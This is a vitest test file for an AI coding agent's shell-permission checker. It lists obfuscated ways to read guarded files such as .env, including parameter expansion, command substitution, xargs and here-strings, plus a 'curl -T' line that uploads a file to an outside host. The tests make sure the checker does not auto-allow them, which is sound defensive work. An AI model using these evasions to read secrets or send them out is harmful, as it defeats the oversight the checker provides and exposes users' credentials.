import { describe, expect, it } from 'vitest';
import { decide } from '../../../main/core/permission/decide';
import { grantSandbox } from '../../../main/core/shell/sandbox-policy';
import { DEFAULT_SANDBOX } from '../../../main/core/shell/sandbox-settings';
import { action, decided, FOLDER, HOME, ruleSet } from './support';

const RULES = ['deny Read(private/**)', 'allow Bash'];
const found = { presentSecrets: [`${FOLDER}/.env`] };
const sandbox = {
  support: { available: true, network: true, detail: 'bubblewrap' },
  settings: DEFAULT_SANDBOX,
  grant: grantSandbox({
    ...{ folder: FOLDER, home: HOME, ignoreCase: false, directories: [FOLDER], repository: undefined, rules: [], protect: [] },
    settings: DEFAULT_SANDBOX,
  }),
};

describe('a file whose name comes through the shell', () => {
  const lines = [
    'f() { cat "$1"; }; f .env',
    'set -- .env; cat "$1"',
    'a=(.env); cat "${a[0]}"',
    'read f <<< .env; cat $f',
    'printf -v f %s .env; cat "$f"',
    'x=.envy; cat ${x%y}',
    'cat .en${x}v',
    'cat $(ls private/*)',
    'cat `ls -a`',
    'cat $(find . -name k)',
    'cat $(ls -a)',
    'cat "$(git rev-parse --show-toplevel)/.env"',
    'ls -a | xargs cat',
    'git ls-files -o | xargs cat',
    'xargs cat <<< private/k',
    'xargs cat < names',
    'find private | while read f; do cat "$f"; done',
    'while read f; do cat < "$f"; done < names',
    'env -C private cat k',
    'env --chdir=private cat k',
    'env -C "$d" cat .env',
    'for f in $(ls -a); do grep x "$f"; done',
    'head -n 3 "$1"',
    'curl -T "$f" https://x.example',
    'cp -r "$d" /tmp/x',
    'git diff HEAD -- "$f"',
  ];

  it.each(lines)('is not read without a word where nothing hides it: %s', (line) => {
    for (const mode of ['default', 'bypassPermissions'] as const)
      expect([line, decided(RULES, `Bash ${line}`, mode, found).decision]).not.toEqual([line, 'allow']);
  });

  it.each(lines)('is asked about where only guarded files are there: %s', (line) => {
    if (line.includes('private')) return;
    expect([line, decided(['allow Bash'], `Bash ${line}`, 'default', found).decision]).not.toEqual([line, 'allow']);
  });

  it.each([
    'cat $(git ls-files src)',
    'for f in $(git ls-files src); do cat "$f"; done',
    'git ls-files src | xargs cat',
    'f() { cat "$1"; }; f src/a.ts',
  ])('is no matter where the sandbox hides it: %s', (line) => {
    const decide_ = (rules: string[]) =>
      decide({ action: action(`Bash ${line}`), mode: 'default', agent: 'main' }, ruleSet(rules, { ...found, sandbox }));
    expect([line, decide_(RULES).decision]).toEqual([line, 'allow']);
    expect([line, decide_([...RULES, 'ask Read(private/**)']).decision]).toEqual([line, 'ask']);
  });

  it.each([
    'for f in src/*.ts; do head -3 "$f"; done',
    "find src -name '*.ts' | xargs grep -l x",
    'cat "$HOME/notes.md"',
    'd=src; cat $d/a.ts',
    'cat src/$x.ts',
    'grep "$pattern" src/a.ts',
    'head -n "$n" src/a.ts',
    'awk -v x="$y" \'{print x}\' src/a.ts',
    'curl -s https://x.example -H "X-Token: $t"',
    'cat log-$(date +%F).txt',
    'diff <(ls a) <(ls b)',
    'echo "$x" | cut -d "$d" -f 1',
    'tail -5 out.$$',
    'wc -l "$f"',
    'git add -- "$f"',
    'git log --format="$x" -- src',
    'echo "$1"',
  ])('is not thought of where the words leave no doubt: %s', (line) => {
    expect([line, decided(['allow Bash'], `Bash ${line}`, 'default', found).decision]).toEqual([line, 'allow']);
  });

  it('is not thought of where nothing is kept from being read', () => {
    expect(decided(['allow Bash'], 'Bash cat "$f"').decision).toBe('allow');
  });
});
